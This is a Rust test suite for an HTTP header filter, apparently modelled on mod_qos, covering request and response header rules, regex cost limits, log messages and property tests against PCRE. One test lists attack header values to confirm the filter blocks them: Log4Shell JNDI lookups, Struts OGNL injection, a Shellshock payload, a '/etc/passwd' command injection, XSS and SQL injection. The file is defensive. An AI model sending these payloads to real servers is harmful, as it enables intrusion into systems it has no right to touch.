//! The vectors of filters.md sections 15.7, 16.6 and 16.7, what clients send, and the built-in rules against PCRE.

use super::message::Direction;
use super::*;
use crate::pattern::Match;
use proptest::prelude::*;
use std::sync::LazyLock;

static BUILTIN: LazyLock<HeaderFilter> = LazyLock::new(|| HeaderFilter::new(&REQUEST, [].iter()).unwrap());
static OUT: LazyLock<HeaderFilter> = LazyLock::new(|| HeaderFilter::new(&RESPONSE, [].iter()).unwrap());

fn verdict(filter: &HeaderFilter, name: &str, value: &[u8], values: bool) -> &'static str {
    match filter.judge(name.as_bytes(), value, values) {
        Verdict::Pass => "pass",
        Verdict::Drop(_) => "drop",
        Verdict::Deny(_) => "deny",
    }
}

/// `a*3` stands for aaa, `a,*2a` for a,a,a.
fn expanded(value: &str) -> String {
    match value.strip_prefix("a*").map(str::parse).or(value.strip_prefix("a,*").map(|rest| rest.trim_end_matches('a').parse())) {
        Some(Ok(times)) if value.starts_with("a,") => "a,".repeat(times) + "a",
        Some(Ok(times)) => "a".repeat(times),
        _ => value.to_owned(),
    }
}

#[test]
fn vectors_of_request_headers() {
    let rows = include_str!("vectors.txt").lines().filter(|line| !line.starts_with('#')).map(|line| line.split('\t').collect::<Vec<_>>());
    let mut count = 0;
    for row in rows {
        let [id, name, value, on, size] = row.as_slice() else { panic!("{row:?}") };
        let value = expanded(value);
        let found = [true, false].map(|values| verdict(&BUILTIN, name, value.as_bytes(), values));
        assert_eq!(found, [*on, *size], "{id}: {name}: {value}");
        count += 1;
    }
    assert_eq!(count, 139);
}

#[test]
fn vectors_of_response_headers() {
    for (name, value, expected) in [
        ("Content-Type", &b"text/html"[..], "pass"),
        ("X-Powered-By", b"x", "drop"),
        ("Set-Cookie", &[b'a'; 4000], "pass"),
        ("Set-Cookie", &[b'a'; 4001], "drop"),
        ("Content-Security-Policy", &[b'a'; 8000], "pass"),
        ("Content-Security-Policy", &[b'a'; 8001], "drop"),
        ("Server", b"a\tb", "drop"),
        ("ETag", b"", "pass"),
        ("Location", b"http://a/\x80\xff", "pass"),
        // It protects users: the built-in rules know it.
        ("Referrer-Policy", b"no-referrer", "pass"),
        ("X-Frame-Options", b"DENY", "pass"),
        ("x-frame-options", b"DENY\n", "drop"),
    ] {
        assert_eq!(verdict(&OUT, name, value, true), expected, "{name}");
    }
}

/// Nothing of what today's clients send is dropped.
#[test]
fn what_clients_send_passes() {
    let (mut clients, mut headers) = (0, 0);
    for block in include_str!("clients.txt").split("\n== ").skip(1) {
        let mut lines = block.lines();
        let client = lines.next().unwrap();
        for (name, value) in lines.map(|line| line.split_once(": ").unwrap()) {
            assert_eq!(verdict(&BUILTIN, name, value.as_bytes(), true), "pass", "{client}: {name}: {value}");
            headers += 1;
        }
        clients += 1;
    }
    assert!(clients >= 30 && headers > 250, "{clients} {headers}");
}

/// Attacks that the rules have always stopped, in values that they now take more of.
#[test]
fn attacks_do_not_pass() {
    for (name, value) in [
        ("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
        ("Content-Type", "text/html<script>"),
        ("Content-Type", "${jndi:ldap://e/a}"),
        ("Authorization", "Basic ${jndi:ldap://e/a}"),
        ("Authorization", "Bearer <script>"),
        ("If-None-Match", "\"<script>\""),
        ("If", "<script>alert(1)</script>"),
        ("If", "(<a>"),
        ("X-Requested-With", "<script>"),
        ("Sec-CH-UA", "\"<svg>\";v=\"1\""),
        ("Forwarded", "for=${jndi:ldap://e/a}"),
        ("X-Forwarded-For", "10.0.0.1' OR 1=1"),
        ("X-Forwarded-Host", "a<b"),
        ("Via", "1.1 ${jndi:ldap://e/a}"),
        ("X-Request-ID", "a b"),
        ("User-Agent", "() { :; }; /bin/bash -c id"),
        ("User-Agent", "%{(#_='multipart/form-data')}"),
        ("User-Agent", "Mozilla/5.0 ${jndi:ldap://e/a}"),
        ("User-Agent", "x<script>alert(1)</script>"),
        ("User-Agent", "x\"; cat /etc/passwd | sh"),
        ("User-Agent", "-agent"),
        ("X-User-Agent", "x<script>"),
        ("Accept", "text"),
        ("Accept", "**"),
        ("Accept", "*${jndi:ldap://e/a}"),
        ("Proxy", "http://evil"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-Original-URL", "/admin"),
        ("X-Rewrite-URL", "/admin"),
    ] {
        assert_ne!(verdict(&BUILTIN, name, value.as_bytes(), true), "pass", "{name}: {value}");
    }
}

fn rule(name: &str, action: Action, pattern: &str, max: u64) -> Rule {
    Rule::new(name.as_bytes(), action, Pattern::new(pattern.as_bytes()).unwrap(), max)
}

/// Example 15.7, and that own rules replace the built-in ones.
#[test]
fn own_rules() {
    let own =
        [rule("X-Custom", Action::Deny, "^[0-9]{1,3}$", 3), rule("user-agent", Action::Drop, "(?<=a)b", 5), rule("X-CUSTOM", Action::Deny, "^[0-9]+$", 4)];
    let filter = HeaderFilter::new(&REQUEST, own.iter()).unwrap();
    for (name, value, expected) in [
        ("X-Custom", "12", "pass"),
        ("x-custom", "ab", "deny"),
        ("X-Custom", "1234", "pass"),
        ("X-Custom", "12345", "deny"),
        ("User-Agent", "ab", "pass"),
        ("User-Agent", "curl/8", "drop"),
    ] {
        assert_eq!(verdict(&filter, name, value.as_bytes(), true), expected, "{name}: {value}");
    }
    assert_eq!(verdict(&filter, "X-Custom", b"ab", false), "pass");
    assert!(filter.rule(b"USER-AGENT").unwrap().backtracks());
    assert_eq!(filter.rules().len(), BUILTIN.rules().len() + 1);
}

/// E3: what takes too long breaks the rule. FW-23b: what is too long is not matched at all.
#[test]
fn values_that_take_too_long_break_the_rule() {
    let own = [rule("X-Slow", Action::Drop, "^(?:(a+)+|b\\1)+$", 100), rule("X-Linear", Action::Drop, "^(a+)+$", 100_000)];
    let filter = HeaderFilter::new(&[], own.iter()).unwrap();
    let slow = ["a".repeat(60).as_str(), "!"].concat();
    assert_eq!(Pattern::new(b"^(?:(a+)+|b\\1)+$").unwrap().matches(slow.as_bytes()), Match::GivenUp);
    assert_eq!((verdict(&filter, "X-Slow", slow.as_bytes(), true), verdict(&filter, "X-Slow", slow.as_bytes(), false)), ("drop", "pass"));
    assert_eq!(verdict(&filter, "X-Linear", "a".repeat(99_999).as_bytes(), true), "pass");
}

/// On failure: copy what this prints into docs/header-filter.md.
#[test]
fn the_documentation_shows_the_built_in_rules() {
    let documented = include_str!("../../../../docs/header-filter.md");
    for rules in REQUEST.iter().chain(&RESPONSE) {
        let expected = reference(rules);
        assert!(documented.contains(&expected), "docs/header-filter.md has to contain:\n{expected}");
    }
}

/// Each built-in pattern is matched without backtracking, and names are found in any case.
#[test]
fn built_in_rules_are_cheap() {
    for (filter, tables) in [(&*BUILTIN, &REQUEST[..]), (&*OUT, &RESPONSE[..])] {
        let names = tables.iter().flat_map(|rules| rules.iter()).map(|rule| rule.name);
        assert_eq!(filter.rules().iter().map(|rule| String::from_utf8_lossy(rule.name())).collect::<Vec<_>>(), names.collect::<Vec<_>>());
        for rule in filter.rules() {
            let name = rule.name();
            assert!(!rule.backtracks(), "{}", name.escape_ascii());
            for written in [name.to_vec(), name.to_ascii_lowercase(), name.to_ascii_uppercase()] {
                assert_eq!(filter.rule(&written), Some(rule), "{}", name.escape_ascii());
            }
        }
        // A byte that differs from one of the name in the bit in which letters of both cases differ.
        let other = |name: &[u8], at: usize| name.iter().enumerate().map(|(n, byte)| if n == at { byte ^ 0x20 } else { *byte }).collect::<Vec<_>>();
        for name in filter.rules().iter().map(Rule::name) {
            for (at, byte) in name.iter().enumerate() {
                assert_eq!(filter.rule(&other(name, at)).is_some(), byte.is_ascii_alphabetic(), "{} {at}", name.escape_ascii());
            }
        }
        for unknown in ["", "X", "Accept\0", "Accept ", "Accep", "Sec-Fetch-Sitf", "@ccept", "zzzzzzzzzzzzzzzzzzzzzzzzzzz"] {
            assert_eq!(filter.rule(unknown.as_bytes()), None, "{unknown}");
        }
    }
    assert_eq!(REQUEST[0].len(), 47);
}

#[test]
fn log_lines() {
    let accept = rule("DNT", Action::Drop, "^[0-9]+$", 3);
    assert_eq!(
        message::dropped(Direction::Request, crate::message::Mark::Enforced, (b"X-Foo", b"1"), None, "192.0.2.1", "x"),
        "mod_qos(042): drop request header: 'X-Foo: 1', (no rule available), c=192.0.2.1, id=x"
    );
    assert_eq!(
        message::dropped(Direction::Response, crate::message::Mark::LogOnly, (b"DNT", b"12345"), Some(&accept), "192.0.2.1", "x"),
        "mod_qos(042): drop response header (log only): 'DNT: 12345', (pattern=^[0-9]+$, max. length=3), c=192.0.2.1, id=x"
    );
    assert_eq!(
        message::denied(crate::message::Mark::LogOnly, (b"Cookie", b"12345"), &accept, "192.0.2.1", "x"),
        "mod_qos(043): access denied (log only), request header: 'Cookie: (5 bytes)', (pattern=^[0-9]+$, max. length=3), c=192.0.2.1, id=x"
    );
    assert_eq!(message::loaded(Direction::Request, &accept), "mod_qos(): request header filter rule (drop) DNT: ^[0-9]+$ max=3");
    assert_eq!(
        message::dropped_before(Direction::Request, 7, "192.0.2.1"),
        "mod_qos(042): drop request header (previously), message repeated 7 times, c=192.0.2.1"
    );
    assert_eq!(message::denied_before(7, "192.0.2.1"), "mod_qos(043): access denied (previously), request header, message repeated 7 times, c=192.0.2.1");
    let error = BuiltinError { name: "DNT", error: Pattern::new(b"(").unwrap_err() };
    assert!(
        message::not_compiled(Direction::Request, &error).starts_with("mod_qos(006): the built-in request header rule for DNT is not a regular expression")
    );
}

/// What section 8.5 says that a value may be, as an expression to make values from.
const DOCUMENTED: &[(&str, &str)] = &[
    (
        "Accept",
        "[a-z0-9_*+-]{1,5}/[a-z0-9_*+.-]{1,5}(; ?[a-z0-9]{1,3}=[0-9]{1,2})? ?(; ?[qv]=[a-z0-9.]{1,3})?( ?, ?[a-z0-9_*+-]{1,5}/[a-z0-9_*+.-]{1,5}(; ?[a-z0-9]{1,3}=[0-9]{1,2})? ?(; ?q=[0-9.]{1,3})?){0,2}",
    ),
    ("Accept-Charset", "[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?( ?, ?[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?){0,3}"),
    ("Accept-Encoding", "[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?( ?, ?[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?){0,3}"),
    ("Accept-Language", "[a-zA-Z*-]{1,5}[0-9]{0,3}(; ?q=[0-9.]{1,3})?( ?, ?[a-zA-Z*-]{1,5}[0-9]{0,3}(; ?q=[0-9.]{1,3})?){0,3}"),
    ("Access-Control-Request-Method", "[a-zA-Z]{1,10}"),
    ("Access-Control-Request-Headers", "[a-zA-Z0-9-]{1,9}( ?, ?[a-zA-Z0-9-]{1,9}){0,5}"),
    ("Authorization", "[a-zA-Z0-9+/$=: ]{1,60}"),
    (
        "Cache-Control",
        "(no-cache|no-store|max-age=[0-9]{1,4}|max-stale(=[0-9]{1,4})?|min-fresh=[0-9]{1,3}|no-transform|only-if-chached)( ?, ?(no-cache|no-store|max-stale|no-transform)){0,3}",
    ),
    ("Connection", "([teTE]{1,3}, ?)?[a-zA-Z0-9-]{1,9}( ?, ?[teTE]{1,3})?"),
    ("Content-Encoding", "[a-zA-Z0-9-]{1,9}(, {0,3}[a-zA-Z0-9-]{1,9}){0,3}"),
    ("Content-Language", "[a-zA-Z0-9]{0,8}(-[a-zA-Z0-9]{0,8}){0,2}(, {0,2}[a-zA-Z0-9]{0,8}(-[a-zA-Z0-9]{0,8}){0,2}){0,2}"),
    ("Content-Length", "[0-9]{1,10}"),
    ("Content-Location", "[a-zA-Z0-9 :/?#@!$&'()*+,;=._~%\\[\\]-]{1,60}"),
    ("Content-MD5", "[a-zA-Z0-9+/$=: ]{1,50}"),
    ("Content-Range", "bytes {1,3}[0-9]{1,4}-[0-9]{1,4}/([0-9]{1,4}|\\*)"),
    ("Content-Type", "[a-zA-Z0-9\"*/;= -]{1,30}( ?, ?[a-zA-Z0-9\"*/;= -]{1,30}){0,2}"),
    ("Cookie", "[a-zA-Z0-9 :/?#@!$&'()*+,;=._~%\"\\[\\]-]{1,60}"),
    ("Cookie2", "[a-zA-Z0-9 :/?#@!$&'()*+,;=._~%\"\\[\\]-]{1,60}"),
    ("DNT", "[0-9]{1,3}"),
    ("Expect", "[a-zA-Z0-9=;., -]{1,30}"),
    ("From", "[a-zA-Z0-9=@;.,()-]{1,30}"),
    ("Host", "[a-zA-Z0-9.-]{1,30}(:[0-9]{1,5})?"),
    ("If-Invalid", "[a-zA-Z0-9_.:;()/+! -]{1,60}"),
    ("If-Match", "(W/)?[a-zA-Z0-9=@;.,*\"-]{1,60}"),
    ("If-Modified-Since", "[a-zA-Z0-9 :,]{1,60}"),
    ("If-None-Match", "(W/)?[a-zA-Z0-9=@;.,*\"-]{1,60}"),
    ("If-Range", "[a-zA-Z0-9=@;.,*\"-]{1,60}"),
    ("If-Unmodified-Since", "[a-zA-Z0-9 :,]{1,60}"),
    ("If-Valid", "[a-zA-Z0-9_.:;()/+! -]{1,60}"),
    ("Keep-Alive", "[0-9]{1,20}"),
    ("Max-Forwards", "[0-9]{1,20}"),
    ("Origin", "[a-zA-Z0-9 :/?#@!$&'()*+,;=._~%\\[\\]-]{1,60}"),
    ("Proxy-Authorization", "[a-zA-Z0-9+/$=: ]{1,60}"),
    ("Pragma", "[a-zA-Z0-9=;., -]{1,30}"),
    ("Range", "[a-zA-Z0-9_.:;()/+!= -]{1,60}"),
    ("Referer", "[a-zA-Z0-9 :/?#@!$&'()*+,;=._~%\\[\\]-]{1,60}"),
    ("TE", "[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?( ?, ?[a-zA-Z0-9*-]{1,5}(; ?q=[0-9.]{1,3})?){0,3}"),
    ("Transfer-Encoding", "([cC]hunked|[cC]ompress|[dD]eflate|[gG]zip|[iI]dentity)( ?, ?([cC]hunked|[cC]ompress|[dD]eflate|[gG]zip|[iI]dentity)){0,3}"),
    ("Unless-Modified-Since", "[a-zA-Z0-9 :,]{1,60}"),
    ("User-Agent", "[a-zA-Z0-9][a-zA-Z0-9_.:;()\\[\\]@/+!=, -]{1,60}"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Via", "[a-zA-Z0-9_.:;()/+! -]{1,60}"),
    ("X-Forwarded-For", "[a-zA-Z0-9_.:-]{1,20}(, [a-zA-Z0-9_.:-]{1,20}){0,2}"),
    ("X-Forwarded-Host", "[a-zA-Z0-9_.:-]{1,60}"),
    ("X-Forwarded-Server", "[a-zA-Z0-9_.:-]{1,60}"),
    ("X-lori-time-1", "[0-9]{1,20}"),
    ("X-Do-Not-Track", "[0-9]{1,20}"),
];

/// What section 8.5 allows at most, in the order of the table: ours is never less.
const DOCUMENTED_MAX: [u32; 47] = [
    300, 300, 500, 200, 10, 500, 4000, 100, 100, 100, 100, 10, 200, 50, 50, 200, 3000, 3000, 3, 200, 100, 100, 500, 100, 100, 100, 100, 100, 500, 20, 20, 2000,
    400, 200, 200, 2000, 100, 100, 100, 300, 1, 100, 100, 100, 100, 20, 20,
];

#[test]
fn every_documented_header_has_a_rule() {
    assert_eq!(REQUEST[0].iter().map(|rule| rule.name).collect::<Vec<_>>(), DOCUMENTED.iter().map(|(name, _)| *name).collect::<Vec<_>>());
    for (rule, max) in REQUEST[0].iter().zip(DOCUMENTED_MAX) {
        assert!(rule.max >= max, "{}", rule.name);
        let denies = ["Content-Encoding", "Content-Length", "Content-Location", "Content-MD5", "Content-Range", "Content-Type", "Transfer-Encoding"];
        assert_eq!(rule.action == Action::Deny, denies.contains(&rule.name), "{}", rule.name);
    }
}

fn documented() -> impl Strategy<Value = (&'static str, String)> {
    prop::sample::select(DOCUMENTED).prop_flat_map(|(name, values)| (Just(name), proptest::string::string_regex(values).unwrap()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// Whatever the documented rules take is taken.
    #[test]
    fn documented_values_pass((name, value) in documented()) {
        prop_assert_eq!(verdict(&BUILTIN, name, value.as_bytes(), true), "pass", "{}: {}", name, value);
    }

    /// The verdict on a value is PCRE's, however it is found.
    #[test]
    fn values_are_judged_as_by_pcre(
        (name, mut value) in documented(), at in any::<prop::sample::Index>(), byte in any::<u8>(), other in any::<prop::sample::Index>()
    ) {
        let mut bytes = std::mem::take(&mut value).into_bytes();
        bytes.insert(at.index(bytes.len() + 1), byte);
        for rule in [BUILTIN.rule(name.as_bytes()).unwrap(), &BUILTIN.rules()[other.index(BUILTIN.rules().len())]] {
            let pcre = Pattern::new(rule.pattern().as_bytes()).unwrap().matches(&bytes) == Match::Yes;
            prop_assert_eq!(rule.allows_value(&bytes), pcre, "{}: {}", rule.pattern(), bytes.escape_ascii());
        }
    }
}
